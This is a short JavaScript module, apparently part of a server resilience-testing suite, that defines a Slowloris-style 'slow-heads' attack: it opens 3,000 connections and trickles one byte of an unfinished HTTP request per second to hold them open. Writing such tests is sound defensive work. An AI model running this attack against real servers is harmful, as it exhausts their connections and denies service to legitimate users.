import { defineAttack } from '../attack.js'
import { hoard } from '../hoard.js'

export const slowHeads = defineAttack({
  name: 'slow-heads',
  does: 'A stranger opens 3,000 connections and sends a byte of a head now and then.',
  run: (attacker) =>
    hoard(attacker, 3_000, 'GET /api/v1/sessions HTTP/1.1\r\nHost: ', async (socket) => {
      while (attacker.attacking && !socket.destroyed) {
        socket.write('x')
        await attacker.pause(1_000)
      }
    }),
})
